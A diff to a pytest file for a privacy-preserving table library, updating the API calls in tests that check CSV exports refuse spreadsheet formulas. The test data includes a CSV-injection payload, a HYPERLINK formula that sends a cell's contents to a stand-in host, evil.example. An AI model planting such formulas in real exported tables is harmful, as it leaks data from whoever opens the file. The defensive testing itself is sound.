@@ -6,6 +6,8 @@ import pytest
 
 import utmost as ut
 from running import called
+
+# Readers of hostile bytes and cells, and their limits, are tried without a release behind them.
 from utmost.tables.files.formulas import is_computed
 
 EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")'
@@ -24,7 +26,7 @@ OTHERS = ("t.xlsx", "t.parquet", "t.jsonl", "t.feather")
 
 def released(label):
     table = {"town": [label, "Bern"], "n": [5, -3]}
-    return ut.release_table(table, ut.Promise(columns="n", public="town", sensitivity=1, cells=1), epsilon=1)
+    return ut.release_table(table, ut.Promise(columns="n", public="town", unit=ut.Unit(1, 1)), epsilon=1)
 
 
 @pytest.mark.parametrize("text", COMPUTED)
@@ -64,7 +66,7 @@ def test_excel_computes_nothing(tmp_path):
 
 
 def test_names_of_columns_are_text_as_well(tmp_path):
-    release = ut.release_table({EVIL: [1, 2]}, ut.Promise(columns=EVIL, sensitivity=1, cells=1), epsilon=1)
+    release = ut.release_table({EVIL: [1, 2]}, ut.Promise(columns=EVIL, unit=ut.Unit(1, 1)), epsilon=1)
     with pytest.raises(ut.errors.BadTable, match="spreadsheets compute"):
         release.save(tmp_path / "t.csv")
 
@@ -73,7 +75,7 @@ def test_a_ledger_and_a_plan_write_no_formula(tmp_path):
     """Ledger.save, the tables of a strategy, and a table that is clean: the same rule."""
     with ut.Ledger.open(tmp_path / "l.db", create=True) as ledger:
         table = {"town": [EVIL, "Bern"], "n": [5, 3]}
-        ledger.publish("x", table, ut.Promise(columns="n", public="town", sensitivity=1, cells=1), epsilon=1)
+        ledger.publish("x", table, ut.Promise(columns="n", public="town", unit=ut.Unit(1, 1)), epsilon=1)
         with pytest.raises(ut.errors.BadTable, match="spreadsheets compute"):
             ledger.save("x", tmp_path / "l.csv", epsilon=1)
         ledger.save("x", tmp_path / "l.parquet", epsilon=1)
